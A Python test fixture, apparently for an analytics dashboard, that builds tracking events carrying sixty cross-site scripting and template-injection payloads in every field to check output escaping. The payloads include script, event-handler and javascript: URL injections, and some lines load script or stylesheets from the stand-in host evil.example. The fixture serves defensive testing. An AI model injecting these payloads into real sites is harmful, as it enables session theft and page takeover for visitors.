"""Sixty texts that have run as script in somebody's dashboard, and events that carry them in every field.

Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's cross-site scripting cheat sheet, and the referrer of a
visit shown unescaped in web statistics (CVE-2022-29815 is one of several).
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    "\"><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "\" onmouseover=alert(1) x=\"",
    "' onfocus=alert(1) autofocus '",
    "\" autofocus onfocus=alert(1) \"",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "{{7*7}}{{constructor.constructor('alert(1)')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(1)}",
    "<div hx-get=/rejected hx-trigger=load></div>",
    "<div hx-on:htmx:load=\"alert(1)\" hx-get=/ hx-trigger=load></div>",
    "<div sse-connect=\"https://evil.example/\"></div>",
    "\u2028alert(1)\u2029<!--<script>",
    "=HYPERLINK(\"https://evil.example\",\"x\")<img src=x onerror=alert(1)>",
)  # fmt: skip


def calls(now: datetime) -> Iterator[tuple[datetime, str, dict[str, Any]]]:
    """For each payload a visitor whose every field holds it, and a call that is refused for it."""
    for number, text in enumerate(PAYLOADS):
        at = now - timedelta(minutes=20 + 3 * number)
        user = f"{text} {number}"
        context = {
            "campaign": {"name": text, "source": text, "medium": text, "term": text, "content": text},
            "page": {"url": text, "path": text, "title": text, "referrer": text},
            "userAgent": text, "locale": text, "timezone": text, "ip": text,
            "library": {"name": text, "version": text}, "device": {"type": text, "model": text, "id": text},
        }  # fmt: skip
        who = {"userId": user, "anonymousId": f"a {user}", "context": context}
        yield at, text, {"type": "page", "name": text, "category": text, "properties": {
            "url": text, "path": text, "title": text, "referrer": text, text: text}, **who}  # fmt: skip
        yield at, text, {"type": "identify", "traits": {
            "name": text, "email": f"{text}@x.example", "phone": text, "company": text, "plan": text, text: text,
            "nested": {text: [text]}}, **who}  # fmt: skip
        yield at, text, {"type": "track", "event": text[:190], "properties": {
            text: text, "list": [text, {text: text}], "url": text}, **who}  # fmt: skip
        yield at, text, {"type": "track", "event": "Order Completed", "properties": {
            "order_id": text, "total": 10, "currency": text[:3], "coupon": text,
            "products": [{"product_id": text, "name": text, "category": text, "price": 5}]}, **who}  # fmt: skip
        yield at, text, {"type": "group", "groupId": text, "traits": {"name": text, "plan": text}, **who}
        yield at, text, {"type": text, "event": text, "messageId": f"refused {text}"[:100], "userId": user}
